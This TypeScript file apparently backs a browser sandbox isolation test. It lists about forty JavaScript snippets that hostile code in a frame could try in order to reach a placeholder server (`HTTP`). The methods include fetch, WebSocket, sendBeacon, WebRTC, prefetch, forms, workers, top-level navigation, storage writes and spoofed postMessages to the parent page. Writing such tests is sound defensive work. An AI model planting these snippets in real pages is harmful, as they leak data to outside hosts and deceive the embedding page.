/** What a program could try that had taken over the frame itself, which only a hole in the browser would let it. */
export interface FrameAttack {
  readonly name: string;
  /** JavaScript for the frame; `HTTP` stands for a server's host and port. */
  readonly code: string;
  /**
   * True where the browser opens a connection before it refuses the request: nothing is sent over it, but the host's name
   * has been looked up. No policy of a page's can keep it from that.
   */
  readonly connects?: true;
}

const markup = (html: string): string => `document.documentElement.insertAdjacentHTML("beforeend", \`${html}\`)`;
const clicked = (attributes: string): string =>
  `${markup(`<a id="a" ${attributes}>a</a>`)}; document.getElementById("a").click()`;
const answered = (expression: string): string => `(async () => String(await ${expression}))().catch(String)`;

/** See {@link FrameAttack}. Each is followed by a look at whether frame and page are where they were. */
export const frameAttacks: readonly FrameAttack[] = [
  { name: 'fetch', code: answered('fetch("http://HTTP/x")') },
  { name: 'WebSocket', code: 'void new WebSocket("ws://HTTP/x")' },
  { name: 'beacon', code: 'navigator.sendBeacon("http://HTTP/x", "x")' },
  { name: 'WebTransport', code: answered('new WebTransport("https://HTTP/x").ready') },
  {
    name: 'WebRTC',
    code: answered(
      '(async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:HTTP?transport=tcp", username: "a", credential: "b" }] }); p.createDataChannel("x"); await p.setLocalDescription(); })()',
    ),
  },
  { name: 'an image', code: 'void (new Image().src = "http://HTTP/x")' },
  { name: 'a style sheet', code: markup('<link rel="stylesheet" href="http://HTTP/x">') },
  { name: 'an image in a style', code: markup('<style>html { background: url(http://HTTP/x) }</style>') },
  {
    name: 'an image in a style, set by script',
    code: 'void (document.documentElement.style.backgroundImage = "url(http://HTTP/x)")',
  },
  { name: 'a font', code: answered('new FontFace("x", "url(http://HTTP/x)").load()') },
  { name: 'media', code: answered('new Audio("http://HTTP/x").play()') },
  { name: 'an object', code: markup('<object data="http://HTTP/x"></object><embed src="http://HTTP/x">') },
  {
    name: 'a script',
    code: 'void (document.head.append(Object.assign(document.createElement("script"), { src: "http://HTTP/x" })))',
  },
  { name: 'preload', code: markup('<link rel="preload" as="image" href="http://HTTP/x">') },
  { name: 'prefetch', code: markup('<link rel="prefetch" href="http://HTTP/x">') },
  { name: 'dns-prefetch', code: markup('<link rel="dns-prefetch" href="http://HTTP">'), connects: true },
  { name: 'preconnect', code: markup('<link rel="preconnect" href="http://HTTP">'), connects: true },
  { name: 'prerender', code: markup('<link rel="prerender" href="http://HTTP/x">') },
  {
    name: 'speculation rules',
    code: 'document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: \'{"prefetch":[{"source":"list","urls":["http://HTTP/x"]}]}\' }))',
  },
  { name: 'a frame in the frame', code: markup('<iframe src="http://HTTP/x"></iframe>'), connects: true },
  { name: 'its own address', code: 'void (location.href = "http://HTTP/x")', connects: true },
  { name: 'meta refresh', code: markup('<meta http-equiv="refresh" content="0;url=http://HTTP/x">'), connects: true },
  { name: 'a link', code: clicked('href="http://HTTP/x"'), connects: true },
  { name: 'a download', code: clicked('href="http://HTTP/x" download="x"'), connects: true },
  { name: 'a link with a ping', code: clicked('href="#" ping="http://HTTP/x"') },
  { name: 'a link for the whole page', code: clicked('href="http://HTTP/x" target="_top"') },
  { name: 'the page’s address', code: answered('(top.location = "http://HTTP/x")') },
  { name: 'the page’s document', code: answered('parent.document.title') },
  { name: 'a window', code: 'String(open("http://HTTP/x"))' },
  {
    name: 'a form',
    code: `${markup('<form id="f" action="http://HTTP/x"></form>')}; document.getElementById("f").submit()`,
  },
  {
    name: 'a form for the whole page',
    code: `${markup('<form id="g" target="_top" action="http://HTTP/x"></form>')}; document.getElementById("g").submit()`,
  },
  { name: 'a worker', code: answered('new Worker("http://HTTP/x")') },
  { name: 'a shared worker', code: answered('new SharedWorker("http://HTTP/x")') },
  { name: 'a service worker', code: answered('navigator.serviceWorker.register("http://HTTP/x")') },
  { name: 'storage', code: answered('[document.cookie = "a=1", localStorage.setItem("a", "1")]') },
  { name: 'a database', code: answered('indexedDB.open("x")') },
  { name: 'the caches', code: answered('caches.open("x")') },
  { name: 'private files', code: answered('navigator.storage.getDirectory()') },
  { name: 'a dialogue', code: 'void alert(1)' },
  {
    name: 'messages to the page',
    code: 'for (let i = 0; i < 1000; i += 1) parent.postMessage({ type: "connected", isolated: true }, "*")',
  },
];
